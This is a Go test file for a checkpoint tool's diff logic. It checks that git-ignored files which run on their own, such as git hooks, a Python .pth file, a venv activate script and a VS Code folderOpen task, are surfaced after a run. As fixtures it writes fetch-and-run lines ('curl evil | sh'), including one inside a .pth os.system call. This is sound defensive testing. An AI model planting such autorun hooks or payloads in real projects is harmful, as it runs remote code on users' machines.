package checkpoint_test

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/keel-run/keel/internal/checkpoint"
)

// A file written in a path git ignored at the start is listed when it
// changed after Base.Since: a file that runs on its own with its whole
// content, the others by name, many of them counted by top directory;
// the hooks and config of the repository's .git too. Files that did not
// change since are not listed.
func TestDiffListsIgnoredFilesWrittenSince(t *testing.T) {
	dir := repo(t, map[string]string{
		".gitignore": "build/\n*.log\n.venv/\nnode_modules/\n.vscode/\n",
		"a.txt":      "a\n",
	})
	commit, _, err := checkpoint.Start(t.Context(), dir)
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, ".venv/lib/python3.11/site-packages/evil.pth", "import os; os.system('curl evil | sh')\n")
	write(t, dir, ".venv/bin/activate", "curl evil | sh\n")
	write(t, dir, ".vscode/tasks.json", `{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}`+"\n")
	write(t, dir, "build/run.sh", "curl evil | sh\n")
	write(t, dir, "debug.log", "log\n")
	write(t, dir, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
	write(t, dir, "a.txt", "A\n")

	type row struct {
		Path    string
		Ignored bool
		Files   int
		Autorun bool
		Added   int
	}
	rows := func(since time.Time) []row {
		t.Helper()
		changes, err := checkpoint.DiffFrom(t.Context(), dir, checkpoint.Base{Commit: commit, Since: since}, nil)
		if err != nil {
			t.Fatal(err)
		}
		var got []row
		for _, c := range changes {
			got = append(got, row{c.Path, c.Ignored, c.Files, c.Autorun != "", c.Added})
			if c.Ignored && c.Autorun == "" && c.Patch != "" {
				t.Errorf("%s: an ignored file that does not run on its own shows its content:\n%s", c.Path, c.Patch)
			}
			if c.Path == ".venv/lib/python3.11/site-packages/evil.pth" && !strings.Contains(c.Patch, "+import os; os.system('curl evil | sh')") {
				t.Errorf("%s: patch %q lacks the file's content", c.Path, c.Patch)
			}
		}
		return got
	}
	// Every file written after an hour ago: all listed.
	got := rows(time.Now().Add(-time.Hour))
	want := []row{
		{Path: ".git/hooks/pre-commit", Ignored: true, Autorun: true, Added: 2},
		{Path: ".venv/bin/activate", Ignored: true, Autorun: true, Added: 1},
		{Path: ".venv/lib/python3.11/site-packages/evil.pth", Ignored: true, Autorun: true, Added: 1},
		{Path: ".vscode/tasks.json", Ignored: true, Autorun: true, Added: 1},
		{Path: "a.txt", Added: 1},
		{Path: "build/run.sh", Ignored: true},
		{Path: "debug.log", Ignored: true},
	}
	// .git/config is written by git init and config above: listed too.
	got = dropConfig(t, got, func(r row) string { return r.Path })
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("DiffFrom since an hour ago (-want +got):\n%s", d)
	}
	// Nothing written after the start (in an hour): only the tracked file.
	if d := cmp.Diff([]row{{Path: "a.txt", Added: 1}}, rows(time.Now().Add(time.Hour))); d != "" {
		t.Errorf("DiffFrom since an hour from now (-want +got):\n%s", d)
	}
	// Without Since: as before, ignored files are not listed.
	changes, err := checkpoint.DiffFrom(t.Context(), dir, checkpoint.Base{Commit: commit}, nil)
	if err != nil || len(changes) != 1 {
		t.Errorf("DiffFrom without Since = %+v, %v", changes, err)
	}

	// An install writes many files: counted by top directory, the one
	// that runs on its own still listed whole.
	for i := range 30 {
		write(t, dir, fmt.Sprintf("node_modules/p%d/index.js", i), "x\n")
	}
	for i := range 3 {
		write(t, dir, fmt.Sprintf("x%d.log", i), "x\n")
	}
	got = dropConfig(t, rows(time.Now().Add(-time.Hour)), func(r row) string { return r.Path })
	want = []row{
		{Path: "./", Ignored: true, Files: 4}, // debug.log, x0-2.log
		{Path: ".git/hooks/pre-commit", Ignored: true, Autorun: true, Added: 2},
		{Path: ".venv/bin/activate", Ignored: true, Autorun: true, Added: 1},
		{Path: ".venv/lib/python3.11/site-packages/evil.pth", Ignored: true, Autorun: true, Added: 1},
		{Path: ".vscode/tasks.json", Ignored: true, Autorun: true, Added: 1},
		{Path: "a.txt", Added: 1},
		{Path: "build/", Ignored: true, Files: 1},
		{Path: "node_modules/", Ignored: true, Files: 30, Autorun: true}, // the packages' index.js: code node runs
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("DiffFrom with many ignored files (-want +got):\n%s", d)
	}
}

// dropConfig removes .git/config from rows after checking it is there
// (git init and the test's commits wrote it).
func dropConfig[R any](t *testing.T, rows []R, path func(R) string) []R {
	t.Helper()
	var out []R
	seen := false
	for _, r := range rows {
		if path(r) == ".git/config" {
			seen = true
			continue
		}
		out = append(out, r)
	}
	if !seen {
		t.Errorf(".git/config, written since, is not listed")
	}
	return out
}

// TestGitControlByContent: with the digests of the .git directory's
// config and hooks recorded at the start, a run's diff lists those whose
// content changed, and not one written just before the start (a script's
// `git init`, `git config` right before `keel run`), which change times
// within the clock's slack cannot tell apart.
func TestGitControlByContent(t *testing.T) {
	dir := repo(t, map[string]string{"a.txt": "a\n"})
	write(t, dir, ".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")
	write(t, dir, ".git/hooks/pre-push.sample", "#!/bin/sh\n")
	commit, _, err := checkpoint.Start(t.Context(), dir)
	if err != nil {
		t.Fatal(err)
	}
	start, err := checkpoint.GitControl(t.Context(), dir)
	if err != nil {
		t.Fatal(err)
	}
	if start["config"] == "" || start["hooks/pre-commit"] == "" || start["hooks/pre-push.sample"] != "" {
		t.Fatalf("GitControl = %v: want config and hooks/pre-commit, no sample", start)
	}
	// Every file of .git is "written since" by its change time.
	since := time.Now().Add(-time.Hour)
	list := func() map[string]string {
		t.Helper()
		changes, err := checkpoint.DiffFrom(t.Context(), dir, checkpoint.Base{Commit: commit, Since: since, Control: start}, nil)
		if err != nil {
			t.Fatal(err)
		}
		got := map[string]string{}
		for _, c := range changes {
			got[c.Path] = string(c.Status)
		}
		return got
	}
	if got := list(); len(got) != 0 {
		t.Errorf("nothing changed since the start; the diff lists %v", got)
	}
	f, err := os.OpenFile(filepath.Join(dir, ".git", "config"), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.WriteString("[core]\n\thooksPath = .h\n"); err != nil {
		t.Fatal(err)
	}
	f.Close()
	write(t, dir, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
	write(t, dir, ".git/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n")
	want := map[string]string{".git/config": "M", ".git/hooks/pre-commit": "M", ".git/hooks/post-checkout": "A"}
	if d := cmp.Diff(want, list()); d != "" {
		t.Errorf("after the run's writes (-want +got):\n%s", d)
	}
}

// TestStartClockSeparates: a file written just before StartClock has a
// change time before what it returns, one written just after, not: no
// slack, at any speed.
func TestStartClockSeparates(t *testing.T) {
	dir := repo(t, map[string]string{"a.txt": "a\n"})
	for i := range 20 {
		before := filepath.Join(dir, fmt.Sprintf("before-%d", i))
		write(t, dir, filepath.Base(before), "x\n")
		at, ok := checkpoint.StartClock(dir)
		if !ok {
			t.Fatal("StartClock: no clock")
		}
		write(t, dir, fmt.Sprintf("after-%d", i), "x\n")
		for name, wantBefore := range map[string]bool{before: true, filepath.Join(dir, fmt.Sprintf("after-%d", i)): false} {
			fi, err := os.Stat(name)
			if err != nil {
				t.Fatal(err)
			}
			st := fi.Sys().(*syscall.Stat_t)
			ct := time.Unix(st.Ctim.Sec, st.Ctim.Nsec)
			if ct.Before(at) != wantBefore {
				t.Errorf("%s: change time %s, start clock %s: before = %v", filepath.Base(name), ct.Format(time.RFC3339Nano), at.Format(time.RFC3339Nano), !wantBefore)
			}
		}
	}
	entries, err := os.ReadDir(filepath.Join(dir, ".git"))
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if strings.HasPrefix(e.Name(), "keel-clock-") {
			t.Errorf("StartClock left %s in .git", e.Name())
		}
	}
}

// A file git ignores by a name pattern in a directory it does not ignore
// (`*.py[cod]` and `pkg/__pycache__/`) is listed once: git lists such a
// directory and each of its files (fresh-user trial 12, N5: a .pyc was
// listed twice and counted twice).
func TestIgnoredFileInDirectoryListedOnce(t *testing.T) {
	dir := repo(t, map[string]string{
		".gitignore": "*.py[cod]\n",
		"pkg/mod.py": "x = 1\n",
	})
	write(t, dir, "pkg/__pycache__/mod.cpython-311.pyc", "old\n")
	write(t, dir, "pkg/__pycache__/other.cpython-311.pyc", "old\n")
	commit, _, err := checkpoint.Start(t.Context(), dir)
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, "pkg/__pycache__/mod.cpython-311.pyc", "new\n")
	changes, err := checkpoint.DiffFrom(t.Context(), dir, checkpoint.Base{Commit: commit, Since: time.Now().Add(-time.Hour)}, nil)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, c := range changes {
		if c.Path != ".git/config" {
			got = append(got, c.Path)
		}
	}
	want := []string{"pkg/__pycache__/mod.cpython-311.pyc", "pkg/__pycache__/other.cpython-311.pyc"}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("DiffFrom (-want +got):\n%s", d)
	}
}
